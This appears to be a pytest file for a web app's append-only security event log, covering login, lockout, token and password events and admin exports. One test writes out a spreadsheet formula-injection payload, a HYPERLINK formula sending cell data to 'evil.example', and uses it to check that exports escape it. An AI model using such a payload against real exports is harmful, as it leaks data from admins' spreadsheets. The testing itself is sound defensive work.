"""The security log (``security_events``): every login and how it ended, lock-outs, logouts, API
tokens issued and revoked, password changes, with where they came from; append-only; read and
exported by admins (``GET /api/v1/security-events``)."""

from __future__ import annotations

import csv
import hashlib
import io
import re

import pytest
from sqlalchemy import select, text

from app.clock import now as clock_now
from app.extensions import db
from app.models import SecurityEvent, User
from app.services.calendar import local_date
from support import PASSWORD, ROOT

AGENT = {"User-Agent": "pytest-agent/1.0"}


def _events(app) -> list[SecurityEvent]:
    with app.app_context():
        rows = db.session.scalars(select(SecurityEvent).order_by(SecurityEvent.id)).all()
        for row in rows:
            row.username = row.user.username if row.user else None
        db.session.expunge_all()
        return rows


def _token(client, username, password, **kw):
    return client.post("/api/v1/auth/token", json={"username": username, "password": password}, **kw)


def test_a_token_login_is_recorded_with_where_it_came_from(app, client):
    r = _token(client, "window1", PASSWORD, headers={**AGENT, "X-Request-ID": "lb-7"})
    assert r.status_code == 200
    logged_in, issued = _events(app)
    assert (logged_in.event_type, logged_in.username, logged_in.channel) == ("login_succeeded", "window1", "api")
    assert (logged_in.remote_addr, logged_in.user_agent, logged_in.request_id) == ("127.0.0.1", "pytest-agent/1.0",
                                                                                   "lb-7")
    assert issued.event_type == "token_issued" and issued.username == "window1"
    assert set(issued.data) == {"token_id", "name", "scopes", "expires_at"}
    assert issued.data["expires_at"] == r.get_json()["expires_at"].replace("Z", "+00:00")
    assert r.get_json()["token"] not in repr(issued.data)  # the token itself is never logged


def test_wrong_passwords_a_lock_out_and_refusals_are_recorded(app, client):
    for _ in range(6):
        _token(client, "window1", "Xyzzy-guess-42")
    events = _events(app)
    assert [e.event_type for e in events] == ["login_failed"] * 4 + ["login_locked", "login_refused"]
    assert all(e.username == "window1" and e.name_hash is None for e in events)
    assert events[0].data == {"reason": "wrong_password"}
    assert events[4].data["reason"] == "wrong_password" and events[4].data["locked_until"]
    assert events[5].data == {"locked_until": events[4].data["locked_until"]}
    assert "Xyzzy" not in repr([e.__dict__ for e in events])  # no password in the log


def test_a_name_that_is_no_user_keeps_only_its_digest(app, client, make_user):
    make_user("gone")
    with app.app_context():
        db.session.scalar(select(User).where(User.username == "gone")).active = False
        db.session.commit()
    assert _token(client, "my-Secret-1", "x").status_code == 401  # a password typed as the name
    assert _token(client, "gone", PASSWORD).status_code == 401
    unknown, inactive = _events(app)
    assert unknown.event_type == "login_failed" and unknown.user_id is None
    assert unknown.name_hash == hashlib.sha256(b"my-Secret-1").hexdigest()
    assert unknown.data == {"reason": "unknown_name"}
    assert "my-Secret-1" not in repr(unknown.__dict__)
    assert (inactive.username, inactive.name_hash, inactive.data) == ("gone", None, {"reason": "inactive"})


def test_browser_logins_and_logouts_are_recorded(app, client):
    page = client.get("/login").get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    assert client.post("/login", data={"username": "health1", "password": "x", "csrf_token": csrf},
                       headers=AGENT).status_code == 401
    assert client.post("/login", data={"username": "health1", "password": PASSWORD, "csrf_token": csrf},
                       headers=AGENT).status_code == 302
    home = client.get("/").get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', home).group(1)
    assert client.post("/logout", data={"csrf_token": csrf}).status_code == 302
    failed, succeeded, out = _events(app)
    assert [(e.event_type, e.username, e.channel) for e in (failed, succeeded, out)] == [
        ("login_failed", "health1", "web"), ("login_succeeded", "health1", "web"), ("logout", "health1", "web")]
    assert succeeded.user_agent == "pytest-agent/1.0"


def test_session_logins_and_logouts_through_the_api_are_recorded(app, client):
    r = client.post("/api/v1/auth/session", json={"username": "police1", "password": PASSWORD})
    assert r.status_code == 200
    assert client.delete("/api/v1/auth/session", headers={"X-CSRFToken": r.get_json()["csrf_token"]}).status_code == 204
    assert [(e.event_type, e.username, e.channel) for e in _events(app)] == [
        ("login_succeeded", "police1", "api-session"), ("logout", "police1", "api-session")]


def test_revoking_a_token_is_recorded(app, client):
    raw = _token(client, "window2", PASSWORD).get_json()["token"]
    assert client.delete("/api/v1/auth/token", headers={"Authorization": f"Bearer {raw}"}).status_code == 204
    revoked = _events(app)[-1]
    issued = _events(app)[-2]
    assert (revoked.event_type, revoked.username, revoked.channel) == ("token_revoked", "window2", "api")
    assert revoked.data["token_id"] == issued.data["token_id"]


def test_the_command_line_tokens_and_passwords_are_recorded(app, db_clean):
    runner = app.test_cli_runner()
    made = runner.invoke(args=["tokens", "create", "--user", "hotline1", "--name", "12345", "--days", "30",
                               "--scope", "work-orders"])
    assert made.exit_code == 0, made.output
    changed = runner.invoke(args=["users", "set-password", "hotline1"], input="New-Passw0rd-2026\nNew-Passw0rd-2026\n")
    assert changed.exit_code == 0, changed.output
    issued, password = _events(app)
    assert (issued.event_type, issued.username, issued.channel) == ("token_issued", "hotline1", "cli")
    assert issued.data["name"] == "12345" and issued.data["scopes"] == ["work-orders"]
    assert (password.event_type, password.username, password.channel) == ("password_changed", "hotline1", "cli")
    assert password.data == {"tokens_revoked": 1} and password.remote_addr is None


def test_admins_read_and_export_the_security_log(api, client):
    from openpyxl import load_workbook

    _token(client, "window1", "wrong")
    today = local_date(clock_now()).isoformat()
    rows = api.get(f"/api/v1/security-events?from={today}&to={today}&user=window1", "admin").get_json()
    assert [(r["event"], r["user"], r["data"]) for r in rows] == [("login_failed", "window1",
                                                                   {"reason": "wrong_password"})]
    failures = api.get(f"/api/v1/security-events?from={today}&to={today}&type=login_failed", "admin").get_json()
    assert [r["user"] for r in failures] == ["window1"]
    everything = api.get(f"/api/v1/security-events?from={today}&to={today}", "admin").get_json()
    assert {"login_failed", "login_succeeded", "token_issued"} <= {r["event"] for r in everything}
    r = api.get(f"/api/v1/security-events?from={today}&to={today}&format=xlsx", "admin")
    assert r.headers["Content-Disposition"] == 'attachment; filename="security.xlsx"'
    sheet = load_workbook(io.BytesIO(r.data)).active
    assert [c.value for c in sheet[1]] == ["id", "at", "event", "user", "name_hash", "channel", "remote_addr",
                                           "user_agent", "request_id", "data"]
    for user in ("supervisor", "leader1", "window1"):
        assert api.get(f"/api/v1/security-events?from={today}&to={today}", user).status_code == 403
    bad = api.get(f"/api/v1/security-events?from={today}&to={today}&type=forged", "admin")
    assert bad.status_code == 422 and "type" in bad.get_json()["errors"]


def test_a_hostile_user_agent_stays_text_in_the_exports(api, client):
    """Anyone can send a login with any User-Agent: the admin's spreadsheet must not run it."""
    from openpyxl import load_workbook

    agent = '=HYPERLINK("http://evil.example/?"&A1,"\x01详情")'
    _token(client, "window1", "wrong", headers={"User-Agent": agent})
    today = local_date(clock_now()).isoformat()
    r = api.get(f"/api/v1/security-events?from={today}&to={today}&type=login_failed&format=xlsx", "admin")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.data)).active
    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("user_agent") + 1)
    assert (cell.value, cell.data_type) == (agent.replace("\x01", "\\x01"), "s")
    r = api.get(f"/api/v1/security-events?from={today}&to={today}&type=login_failed&format=csv", "admin")
    assert r.status_code == 200
    header, row = csv.reader(io.StringIO(r.data.decode("utf-8-sig")))
    assert row[header.index("user_agent")] == "'" + agent


def test_the_database_refuses_to_change_or_delete_security_events(app, client):
    from sqlalchemy.exc import DBAPIError

    _token(client, "window1", PASSWORD)
    with app.app_context():
        for statement in ("UPDATE security_events SET event_type = 'forged'", "DELETE FROM security_events"):
            with pytest.raises(DBAPIError, match="append-only"):
                db.session.execute(text(statement))
            db.session.rollback()
        assert db.session.execute(text("SELECT count(*) FROM security_events")).scalar() == 2
        db.session.remove()


def test_no_code_updates_or_deletes_security_events():
    pattern = re.compile(r"(update|delete)\(\s*SecurityEvent|SecurityEvent\)\.(update|delete)|"
                         r"security_events\s+(set|where)", re.IGNORECASE)
    for path in (ROOT / "app").rglob("*.py"):
        assert not pattern.search(path.read_text(encoding="utf-8")), path

